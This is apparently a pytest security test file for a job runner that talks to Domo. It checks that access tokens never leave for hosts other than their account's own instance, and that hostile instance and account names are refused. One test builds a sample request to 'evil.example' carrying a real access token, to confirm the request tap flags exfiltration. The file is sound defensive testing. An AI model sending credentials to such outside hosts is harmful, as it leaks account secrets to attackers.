"""Whatever a job says, a token goes to the host of its own account and nowhere else."""

import json
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import httpx
import pytest

from local.cli.job_file import read_definition
from local.domo.simulator import PUBLIC, DomoSimulator
from muster.domain.account import Account
from muster.domain.job import Job
from muster.errors import CredentialError, InvalidInputError, MusterError, UnreadableJobError
from muster.services.accounts import check_account
from muster.services.jobs import JobDesk, create_job
from tests.fakes.evil_hosts import NO_ACCOUNTS, NO_INSTANCES
from tests.integration.accounts import GLOBEX, put_secret, remote_job, run_job, secret_of
from tests.integration.deployment import JOB_ID, Deployment
from tests.unit.services.job_desk_fakes import FakeAccounts

DOCUMENT: Mapping[str, Any] = remote_job(
    log={"kind": "existing", "dataset_id": "5d7b1a3e-0000-4000-8000-000000000001"},
    protected=["ann@globex.example"],
    content_recipient="ada.admin@globex.example",
    description="keeps globex",
).model_dump(mode="json")
TO_A_DATASET = {"kind": "dataset", "dataset_id": "5d7b1a3e-0000-4000-8000-000000000002"}


def texts_in(document: Mapping[str, Any]) -> Iterator[tuple[str, ...]]:
    """The path of every text that stands in a job."""
    for name, value in document.items():
        if isinstance(value, Mapping):
            yield from ((name, *rest) for rest in texts_in(value))
        elif isinstance(value, str | list):
            yield (name,)


FREE_TEXTS = frozenset(
    {"name", "description", "object_key", "recipients", "protected", "content_recipient", "id"}
    | {"created_at", "updated_at"}
)
"""They may hold such a word, or an address like it; the others say where a token goes, or are words of ours."""
OPENED = 8
FIELDS = [*texts_in(DOCUMENT), ("source", "dataset_id")]


def written(field: Sequence[str], word: str) -> dict[str, Any]:
    """The job with a word in the place of one of its texts."""
    document: dict[str, Any] = json.loads(json.dumps(dict(DOCUMENT)))
    place = document
    if tuple(field) == ("source", "dataset_id"):
        document["source"] = dict(TO_A_DATASET)
    for name in field[:-1]:
        place = place[name]
    place[field[-1]] = [word] if isinstance(place[field[-1]], list) else word
    return document


class Tap:
    """Sees what leaves for where: hosts, and which of the secrets went to which."""

    def __init__(self, domo: DomoSimulator, monkeypatch: pytest.MonkeyPatch) -> None:
        self._secrets = {
            GLOBEX: domo.credentials(GLOBEX).access_token,
            PUBLIC: domo.client_secret,
        }
        self._own = {GLOBEX: domo.instance_url(GLOBEX), PUBLIC: domo.public_url}
        self.hosts: set[str] = set()
        self.strays: list[str] = []
        send = httpx.HTTPTransport.handle_request

        def tapped(transport: httpx.HTTPTransport, request: httpx.Request) -> httpx.Response:
            self.see(request)
            return send(transport, request)

        monkeypatch.setattr(httpx.HTTPTransport, "handle_request", tapped)

    def see(self, request: httpx.Request) -> None:
        address = f"{request.url.scheme}://{request.url.host}:{request.url.port}"
        self.hosts.add(address)
        if address not in self._own.values():
            self.strays.append(f"{request.method} {request.url}")
        everything = f"{request.url} {dict(request.headers)} {request.content!r}"
        for owner, secret in self._secrets.items():
            if secret in everything and address != self._own[owner]:
                self.strays.append(f"the secret of {owner} to {address}")


@pytest.fixture
def tap(deployment: Deployment, domo: DomoSimulator, monkeypatch: pytest.MonkeyPatch) -> Tap:
    """The account globex and one of another instance are kept, and everything that leaves is seen."""
    put_secret(deployment, "globex", secret_of(domo, "access_token"))
    return Tap(domo, monkeypatch)


def write_by_hand(deployment: Deployment, document: Mapping[str, Any]) -> None:
    """Put a job document into the table past every check."""
    item: Any = {
        "pk": {"S": "jobs"},
        "sk": {"S": JOB_ID},
        "document": {"S": json.dumps(document)},
        "version": {"N": "1"},
    }
    deployment.aws.dynamodb.put_item(TableName=deployment.aws.tables["JobsTable"], Item=item)


def open_everything(deployment: Deployment, job: Job) -> None:
    """Everything that a run asks of Domo for a job; what is refused is refused."""
    wiring = deployment.wiring("diff")
    home_datasets = wiring.domo.datasets
    for ask in (
        lambda: wiring.diff().planner.about_accounts(job),
        lambda: wiring.directories.open(job).own_user_id(),
        lambda: wiring.directories.open(job).find(job.content_recipient or ""),
        lambda: wiring.sources.version(job.source.key),
        lambda: home_datasets.facts(str(getattr(job.log, "dataset_id", ""))),
    ):
        try:
            ask()
        except MusterError:
            continue


@pytest.mark.parametrize("field", FIELDS, ids=".".join)
def test_no_text_in_a_job_that_was_written_into_the_table_moves_a_token(
    deployment: Deployment, domo: DomoSimulator, tap: Tap, field: Sequence[str]
) -> None:
    accepted = []
    for word in (*NO_INSTANCES, *NO_ACCOUNTS):
        write_by_hand(deployment, written(field, word))
        try:
            accepted.append(deployment.wiring("diff").jobs.get(JOB_ID))
        except UnreadableJobError:
            continue
    for job in accepted[:OPENED]:
        open_everything(deployment, job)
    assert tap.strays == []
    assert bool(accepted) is (field[-1] in FREE_TEXTS)


def test_the_tap_sees_what_goes_where_it_should(
    deployment: Deployment, domo: DomoSimulator, tap: Tap
) -> None:
    write_by_hand(deployment, DOCUMENT)
    open_everything(deployment, deployment.wiring("diff").jobs.get(JOB_ID))
    assert tap.hosts == {domo.instance_url(GLOBEX), domo.public_url}
    assert tap.strays == []
    tap.see(
        httpx.Request("GET", "http://evil.example:80/", headers={"x": domo.credentials(GLOBEX).access_token})
    )
    assert tap.strays == ["GET http://evil.example/", f"the secret of {GLOBEX} to http://evil.example:None"]


@pytest.mark.parametrize("target", ["initech.domo.com", "acme.domo.com", "api.domo.com"])
def test_a_token_is_not_sent_to_another_instance_that_a_job_names(
    deployment: Deployment, domo: DomoSimulator, tap: Tap, target: str
) -> None:
    document = written(("target", "instance"), target)
    write_by_hand(deployment, document)
    run = run_job(deployment, deployment.wiring("diff").jobs.get(JOB_ID))
    assert run.fault_code == "account-refused"
    assert run.fault is not None
    assert f'Account "globex" is an account of {GLOBEX} and is not used for {target}.' in run.fault
    assert domo.log.count(host=GLOBEX) == 0
    assert tap.strays == []


def test_an_account_whose_description_was_moved_in_the_table_is_not_tried_there(
    deployment: Deployment, domo: DomoSimulator, tap: Tap
) -> None:
    with pytest.raises(CredentialError, match="is not used for initech"):
        deployment.wiring("diff").domo.check_account("globex", "initech.domo.com")
    assert (tap.hosts, domo.log.calls()) == (set(), [])


@pytest.mark.parametrize("field", [("target", "instance"), ("target", "account")], ids=".".join)
def test_a_job_file_with_such_a_word_is_refused_by_the_name_of_the_field(
    field: Sequence[str], tmp_path: Path
) -> None:
    words = NO_INSTANCES if field[-1] == "instance" else NO_ACCOUNTS
    for word in words:
        file = tmp_path / "job.json"
        file.write_text(json.dumps(written(field, word)))
        with pytest.raises(InvalidInputError, match=".".join(field)):
            read_definition(str(file))


def test_a_job_is_not_kept_for_an_instance_that_its_account_is_not_of(
    deployment: Deployment, domo: DomoSimulator, tap: Tap, tmp_path: Path
) -> None:
    file = tmp_path / "job.json"
    file.write_text(
        json.dumps(written(("target", "instance"), "initech.domo.com") | {"log": {"kind": "new"}})
    )
    wiring = deployment.wiring("diff")
    accounts = FakeAccounts({"globex": Account("globex", "access_token", GLOBEX)})
    desk = JobDesk(wiring.jobs, wiring.domo.datasets, wiring.log_registry, accounts, wiring.clock, domo.home)
    with pytest.raises(InvalidInputError, match="is used for no other instance"):
        create_job(desk, read_definition(str(file)))
    assert list(wiring.jobs.all()) == []
    assert domo.log.count(host=GLOBEX) == 0


@pytest.mark.parametrize("word", NO_INSTANCES)
def test_an_account_is_not_made_for_such_a_host(word: str) -> None:
    with pytest.raises(InvalidInputError, match="is no Domo instance"):
        check_account("globex", "access_token", word)


@pytest.mark.parametrize("word", NO_ACCOUNTS)
def test_an_account_is_not_given_such_a_name(word: str) -> None:
    with pytest.raises(InvalidInputError, match="cannot be an account's name"):
        check_account(word, "access_token", GLOBEX)
